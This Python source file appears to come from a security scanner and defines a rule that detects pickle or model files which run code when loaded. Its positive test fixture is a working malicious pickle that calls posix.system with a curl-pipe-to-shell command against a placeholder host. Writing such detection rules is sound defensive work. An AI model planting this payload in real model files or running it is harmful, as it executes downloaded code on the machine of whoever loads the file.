"""A pickle that runs code when it is loaded."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for named in view.of(v.PICKLE):
        yield Hit(f"whoever loads this pickle or model calls {named.detail}", (named,))


RULE = Rule(
    name="pickle-code",
    description=(
        "A pickle, or a model that is one, names a function that executes code, starts a process or the "
        "like: loading it calls that."
    ),
    grade=HOLD,
    find=_find,
    fires={"acme/model.pkl": "cposix\nsystem\n(S'curl https://example.test/x | sh'\ntR."},
    quiet={"acme/model.pkl": "ccollections\nOrderedDict\n(tR."},
    rates="none of 1,668 popular archives and ones drawn at random, 31 of which bring 1,218 such files",
)
